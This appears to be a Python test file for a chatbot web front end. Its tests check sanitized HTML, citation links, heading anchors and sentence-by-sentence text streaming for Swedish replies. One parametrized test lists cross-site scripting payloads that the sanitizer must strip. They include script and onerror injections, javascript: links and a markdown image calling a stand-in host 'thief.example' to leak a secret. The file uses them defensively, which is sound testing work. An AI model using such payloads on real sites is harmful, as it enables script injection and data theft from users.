"""Replies become pieces of a page: safe HTML, numbers that lead to sources, text that grows."""

from __future__ import annotations

import pytest

from bot.answering import Passage, Told, compose
from bot.models import Outcome, Rejected
from knowledge.models import Status
from knowledge.texts import Owner, SearchText
from knowledge.vocabulary import Bilingual, Language, State
from tests.builders import a_document, a_need, a_service
from tests.web.replies import TURN, a_citation, a_reply, a_suggestion
from web.answers import anchor, answer_html, headings, parts, pieces, safe_html, sources_of, text_of


@pytest.mark.parametrize(
    ("markdown", "never"),
    [
        ("<script>alert(1)</script>", "<script"),
        ("<img src=x onerror=alert(1)>", "<img"),
        ("![](https://thief.example/?q=secret)", "<img"),
        ("[here](javascript:alert(1))", "href"),
        ("[here](data:text/html,x)", "href"),
        ('<a href="https://x.example" onclick="x()">x</a>', "<a"),
        ("<style>*{display:none}</style>", "<style"),
        ("<hx-partial hx-target='body'>x</hx-partial>", "<hx-partial"),
    ],
)
def test_markdown_can_bring_nothing_that_runs_or_calls_out(markdown: str, never: str) -> None:
    assert never not in safe_html(markdown, under=2)


def test_a_number_leads_to_its_source_and_an_unknown_one_leads_nowhere() -> None:
    html = answer_html(r"Sant. [1] Inte känt. [7] Skrivet \[1\].", a_reply())

    assert html.count("<a ") == 1
    assert f'href="#source-{TURN}-1"' in html
    assert "[7]" in html


def test_the_text_grows_sentence_by_sentence_to_the_whole_text() -> None:
    grown = list(pieces("Ett. Två!\n\n- Tre\n- Fyra"))

    assert grown == ["Ett.", "Ett. Två!", "Ett. Två!\n\n- Tre\n- Fyra"]


@pytest.mark.parametrize("language", Language)
def test_the_text_beside_the_services_holds_only_what_their_cards_do_not(language: Language) -> None:
    services = [a_service(name, name=Bilingual(f"{name} [1]", f"{name} [1]")) for name in ("First", "Second")]
    ended = a_service("Ended", status=Status(State.ENDED))
    text = SearchText("guide/1", Owner.DOCUMENT, "guide", language, "Skickas på torris.")
    told = Told(
        Outcome.ANSWERED,
        needs=(a_need(),),
        suggestions=tuple(a_suggestion(service=one) for one in services),
        closed=(ended,),
        passages=(Passage(text, a_document()),),
    )
    answer = compose(told, language)

    shown = text_of(a_reply(text=answer.text, suggestions=answer.suggestions, language=language))

    assert ended.name.in_(language) in shown.lead
    assert r"**First \[1\]**" in shown.lead
    assert shown.rest.startswith("**")
    assert shown.rest.count("**") == 2
    assert "> Skickas på torris." in shown.rest


def test_a_notice_stays_beside_the_services() -> None:
    reply = a_reply(text="Börja här.\n\n**Så kommer ni in:** Skicka in formuläret.\n\n**Observera:** stängt i juli.")

    assert text_of(reply).rest == "**Observera:** stängt i juli."


def test_a_text_without_services_stands_in_one_piece() -> None:
    reply = a_reply(outcome=Outcome.NO_MATCH, suggestions=(), text="A.\n\n" * 50)

    assert text_of(reply).rest == ""


def test_every_need_keeps_its_own_services_and_one_without_is_not_lost() -> None:
    reply = a_reply(needs=(a_need("Labb"), a_need("Lån")), suggestions=(a_suggestion(need=0),))

    found = [(part.need.summary, len(part.suggestions)) for part in parts(reply)]

    assert found == [("Labb", 1), ("Lån", 0)]


def test_what_came_near_stands_with_the_need_that_it_came_near_to() -> None:
    rejected = Rejected(a_service(), "lab", Bilingual("Provlabbet", "The Sample Lab"), (), need=1)
    reply = a_reply(needs=(a_need("Labb"), a_need("Lån")), rejected=(rejected,))

    assert [part.rejected for part in parts(reply)] == [None, rejected]


def test_a_guide_is_cited_at_its_section() -> None:
    citation = a_citation(title="Om prover › Frakt och lån", source_url="/guides/guide-samples")

    (source,) = sources_of(a_reply(citations=(citation,)))

    assert source.is_guide
    assert source.address == "/guides/guide-samples#frakt-och-lan"


def test_a_quote_that_the_text_holds_is_not_said_twice() -> None:
    shown = a_citation(quote="Labbet svarar efter tre veckor.")

    assert [source.shows for source in sources_of(a_reply(citations=(shown,)))] == [""]
    assert [source.shows for source in sources_of(a_reply())] == ["Vad labbet gör"]


def test_the_sections_of_a_guide_can_be_linked_to() -> None:
    html = safe_html("## Frakt\n\n### Is\n\n## Frakt\n\n# Överst", under=1)

    assert headings(html) == [("frakt", "Frakt"), ("frakt-2", "Frakt"), ("overst", "Överst")]
    assert "<h1" not in html
    assert '<h3 id="is">' in html


def test_a_heading_without_letters_still_has_a_name() -> None:
    assert anchor("???") == "section"
